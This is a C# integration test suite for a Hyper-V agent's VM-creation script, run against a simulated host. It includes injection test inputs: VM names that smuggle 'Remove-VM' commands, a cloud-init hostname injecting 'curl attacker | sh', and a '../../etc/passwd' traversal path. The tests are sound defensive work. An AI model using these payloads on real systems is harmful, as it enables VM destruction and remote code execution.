using System.Text.Json;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using OpenHvx.Contracts;
using OpenHvx.HyperVAgent;
using OpenHvx.HyperVAgent.PowerShell;
using OpenHvx.HyperVAgent.Tasks;
using OpenHvx.HyperVAgent.Telemetry;
using OpenHvx.Tests.Support;

namespace OpenHvx.Tests.Agent;

/// <summary>The real vm.create.ps1 in the agent's warm runspace pool, against the simulated Hyper-V module.</summary>
[TestFixture]
[Category("Integration")]
[NonParallelizable]
public sealed class VmCreateScriptTests
{
    private const string Tenant = "tenant1";
    private TempFolder _folder = null!;
    private ServiceProvider _services = null!;
    private PowerShellRunner _runner = null!;
    private ActionScripts _scripts = null!;
    private AgentOptions _options = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        _folder = new TempFolder("agent");
        _services = AgentHost.Build(_folder.Path, new Dictionary<string, string?> { ["Agent:Simulated:Images:rocky.vhdx"] = "10" });
        _runner = _services.GetRequiredService<PowerShellRunner>();
        _scripts = _services.GetRequiredService<ActionScripts>();
        _options = _services.GetRequiredService<IOptions<AgentOptions>>().Value;
        await _services.GetRequiredService<SimulatedHost>().PrepareAsync(CancellationToken.None);
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        await _services.DisposeAsync();
        _folder.Dispose();
    }

    private async Task<ScriptOutcome> CreateAsync(object data, TimeSpan? timeout = null, string tenant = Tenant)
    {
        var task = new AgentTask(Guid.NewGuid(), tenant, "agent-test", ActionNames.VmCreate, JsonSerializer.SerializeToElement(data), "");
        Assert.That(_scripts.TryGetScript(task.Action, out var script), Is.True);
        return await _runner.RunAsync(script, _scripts.BuildParameters(script, task), timeout ?? TimeSpan.FromMinutes(1), CancellationToken.None);
    }

    private static object Spec(string name, object? cloudInit = null)
        => new { name, cpu = 3, memoryMB = 3072, storageGB = 20, imageFile = "rocky.vhdx", generation = 2, cloudInit = cloudInit ?? new { } };

    private Task<List<JsonElement>> HostVmsAsync() => AgentHost.VmsAsync(_services);

    [Test]
    public async Task Creates_the_vm_with_the_requested_cpu_memory_and_disk()
    {
        var outcome = await CreateAsync(Spec("sized"));

        Assert.That(outcome.Ok, Is.True, outcome.Error?.Message);
        var vm = outcome.Output!.Value.GetProperty("vm");
        var id = vm.GetProperty("guid").GetString();
        Assert.That(Guid.TryParse(id, out _), Is.True);
        Assert.That(vm.GetProperty("name").GetString(), Is.EqualTo("sized"));
        Assert.That(vm.GetProperty("state").GetString(), Is.EqualTo("Running"));

        var onHost = (await HostVmsAsync()).Single(v => v.GetProperty("id").GetString() == id);
        Assert.That(onHost.GetProperty("name").GetString(), Is.EqualTo($"{Tenant}.sized"));
        Assert.That(onHost.GetProperty("cpu").GetProperty("vcpus").GetInt32(), Is.EqualTo(3));
        Assert.That(onHost.GetProperty("memoryMb").GetInt64(), Is.EqualTo(3072));

        var disk = vm.GetProperty("disks")[0].GetString()!;
        var vhd = JsonDocument.Parse(File.ReadAllText(disk)).RootElement;
        Assert.That(vhd.GetProperty("sizeBytes").GetInt64(), Is.EqualTo(20L << 30));
        Assert.That(vhd.GetProperty("parentPath").GetString(), Does.EndWith("rocky.vhdx"));
    }

    [TestCase("*")]
    [TestCase("x'; Remove-VM *; '")]
    [TestCase("$(Remove-VM -Name * -Force)")]
    public async Task A_hostile_name_is_data_and_touches_no_other_vm(string hostile)
    {
        var bystander = await CreateAsync(Spec("bystander-" + Guid.NewGuid().ToString("N")[..6]));
        Assert.That(bystander.Ok, Is.True, bystander.Error?.Message);
        var bystanderId = bystander.Output!.Value.GetProperty("vm").GetProperty("guid").GetString();
        var before = await HostVmsAsync();

        var outcome = await CreateAsync(Spec(hostile));

        var after = await HostVmsAsync();
        var survivor = after.Single(v => v.GetProperty("id").GetString() == bystanderId);
        Assert.That(survivor.GetProperty("powerState").GetString(), Is.EqualTo("Running"));
        Assert.That(after.Select(v => v.GetProperty("id").GetString()), Is.SupersetOf(before.Select(v => v.GetProperty("id").GetString())));
        Assert.That(outcome.Ok, Is.True, outcome.Error?.Message);
        Assert.That(after, Has.Count.EqualTo(before.Count + 1));
        var created = after.Single(v => v.GetProperty("id").GetString() == outcome.Output!.Value.GetProperty("vm").GetProperty("guid").GetString());
        Assert.That(created.GetProperty("name").GetString(), Is.EqualTo($"{Tenant}.{hostile}"));
    }

    [Test]
    public async Task A_hostname_with_a_newline_cannot_add_a_cloud_init_key()
    {
        var hostile = "evil\nruncmd: [\"curl attacker | sh\"]\nbootcmd: [reboot]";

        var outcome = await CreateAsync(Spec("ci-" + Guid.NewGuid().ToString("N")[..6], new { hostname = hostile }));

        Assert.That(outcome.Ok, Is.True, outcome.Error?.Message);
        var seed = outcome.Output!.Value.GetProperty("vm").GetProperty("seedPath").GetString()!;
        var lines = File.ReadAllText(Path.Combine(seed, "user-data")).Split('\n', 2);
        Assert.That(lines[0].TrimEnd(), Is.EqualTo("#cloud-config"));
        var config = JsonDocument.Parse(lines[1]).RootElement;
        var keys = config.EnumerateObject().Select(p => p.Name).ToList();
        Assert.That(keys, Does.Not.Contain("runcmd").And.Not.Contain("bootcmd"));
        Assert.That(config.GetProperty("hostname").GetString(), Is.EqualTo(hostile));
    }

    [Test]
    public async Task A_script_over_its_timeout_is_stopped_and_reported_as_ERR_TIMEOUT()
    {
        var simulated = _options.Simulated;
        var host = _services.GetRequiredService<SimulatedHost>();
        simulated.LatencyMs["New-VM"] = 60_000;
        host.WriteConfig();
        try
        {
            var before = await HostVmsAsync();
            var started = DateTime.UtcNow;

            var outcome = await CreateAsync(Spec("slow-" + Guid.NewGuid().ToString("N")[..6]), TimeSpan.FromSeconds(1));

            Assert.That(outcome.Ok, Is.False);
            Assert.That(outcome.Error!.Code, Is.EqualTo(ErrorCodes.Timeout));
            Assert.That(DateTime.UtcNow - started, Is.LessThan(TimeSpan.FromSeconds(20)));
            simulated.LatencyMs.Clear();
            host.WriteConfig();
            Assert.That(await HostVmsAsync(), Has.Count.EqualTo(before.Count), "the stopped script left no VM behind");
        }
        finally
        {
            simulated.LatencyMs.Clear();
            host.WriteConfig();
        }
    }

    [Test]
    public async Task An_injected_fault_is_a_structured_error_and_leaves_nothing_behind()
    {
        var simulated = _options.Simulated;
        var host = _services.GetRequiredService<SimulatedHost>();
        simulated.Faults["Start-VM"] = new SimulatedFault { Message = "power supply on fire", Rate = 1 };
        host.WriteConfig();
        try
        {
            var before = await HostVmsAsync();

            var outcome = await CreateAsync(Spec("faulty-" + Guid.NewGuid().ToString("N")[..6]));

            Assert.That(outcome.Ok, Is.False);
            Assert.That(outcome.Error!.Code, Is.EqualTo("ERR_SIMULATED_FAULT"));
            Assert.That(outcome.Error.Message, Does.Contain("power supply on fire"));
            Assert.That(await HostVmsAsync(), Has.Count.EqualTo(before.Count));
        }
        finally
        {
            simulated.Faults.Clear();
            host.WriteConfig();
        }
    }

    [Test]
    public async Task An_image_path_outside_the_image_folder_is_refused()
    {
        var outcome = await CreateAsync(new { name = "escape", cpu = 1, memoryMB = 1024, storageGB = 10, imageFile = "../../etc/passwd", generation = 2 });

        Assert.That(outcome.Ok, Is.False);
        Assert.That(outcome.Error!.Code, Is.AnyOf("ERR_IMAGE_PATH", "ERR_INVALID_ARGUMENT"));
    }

    [Test]
    public void Actions_are_the_action_scripts_present()
    {
        var actions = _scripts.Actions();
        Assert.That(actions, Does.Contain(ActionNames.VmCreate));
        Assert.That(actions, Has.None.StartsWith("_").And.None.Contains("OpenHvx"), "internal scripts and modules are not actions");
        Assert.That(actions, Is.EquivalentTo(Directory.GetFiles(_options.ResolvedScriptsPath, "*.ps1")
            .Select(Path.GetFileNameWithoutExtension).Where(n => !n!.StartsWith('_'))));
    }

    [Test]
    public void Capabilities_are_the_actions_and_the_original_controllers_names_for_them_sorted()
    {
        var capabilities = _scripts.Capabilities();

        Assert.That(capabilities, Is.SupersetOf(_scripts.Actions()));
        Assert.That(capabilities, Is.SupersetOf(_scripts.Actions().Select(ActionCapabilities.OriginalName)));
        Assert.That(capabilities, Is.SupersetOf(new[] { "inventory", "vm" }), "inventory.refresh and vm.edit pass the original controller's gate");
        Assert.That(capabilities, Is.Ordered.Using((IComparer<string>)StringComparer.Ordinal).And.Unique);
    }

    [TestCase("tenant1\n", "name1", "rocky.vhdx", "ERR_INVALID_ARGUMENT")]
    [TestCase("tenant1\r\n", "name2", "rocky.vhdx", "ERR_INVALID_ARGUMENT")]
    [TestCase(Tenant, "name3", "rocky.vhdx\n", "ERR_IMAGE_PATH")]
    public async Task A_trailing_newline_in_an_identifier_is_refused_before_the_host_is_touched(string tenant, string name, string imageFile, string code)
    {
        var outcome = await CreateAsync(new { name, cpu = 1, memoryMB = 1024, storageGB = 20, imageFile, generation = 2, cloudInit = new { } }, tenant: tenant);

        Assert.That(outcome.Ok, Is.False);
        Assert.That(outcome.Error!.Code, Is.EqualTo(code), outcome.Error.Message);
        Assert.That(Directory.GetFileSystemEntries(_options.FullDataPath, "*", SearchOption.AllDirectories).Select(Path.GetFileName).Where(n => n!.Contains('\n') || n.Contains('\r')),
            Is.Empty, "no file or folder named with a newline");
        Assert.That((await HostVmsAsync()).Select(v => v.GetProperty("name").GetString()!).Where(n => n.EndsWith(name, StringComparison.Ordinal)), Is.Empty, "no VM was made");
    }
}
